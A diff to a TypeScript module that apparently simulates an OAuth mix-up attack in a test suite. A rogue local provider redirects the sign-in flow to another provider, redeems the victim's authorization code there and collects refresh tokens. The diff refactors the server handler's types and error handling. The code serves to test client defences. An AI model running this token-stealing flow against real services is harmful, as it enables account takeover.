@@ -2,7 +2,7 @@
  * A provider of mail leads the browser on to another provider, as if that were its own page, and has the code that the
  * operator gets there shown to itself, with all that it takes to redeem it.
  */
-import { createServer, type IncomingMessage } from 'node:http'
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Attack } from '../attack.ts'
 import { clientOf, openSigningIn } from '../signing-in.ts'
@@ -15,16 +15,19 @@ export const attack: Attack = {
     let pageOfOther = ''
     let tokenOfOther = ''
     const stolen: string[] = []
-    const evil = createServer(async (request, response) => {
+    const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
       const url = new URL(request.url ?? '/', 'http://127.0.0.1')
       if (url.pathname === '/authorize') {
-        response.writeHead(302, { location: `${pageOfOther}&${url.searchParams}` }).end()
+        response.writeHead(302, { location: `${pageOfOther}&${url.searchParams.toString()}` }).end()
         return
       }
       const form = new URLSearchParams(await textOf(request))
       const redeemed = await fetch(tokenOfOther, { method: 'POST', body: form })
       stolen.push(String(((await redeemed.json()) as { refresh_token?: string }).refresh_token))
       response.writeHead(400).end('{"error":"invalid_grant"}')
+    }
+    const evil = createServer((request, response) => {
+      void answer(request, response).catch(() => response.destroy())
     })
     await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
     stage.afterwards(() => new Promise((resolve) => evil.close(resolve).closeAllConnections()))
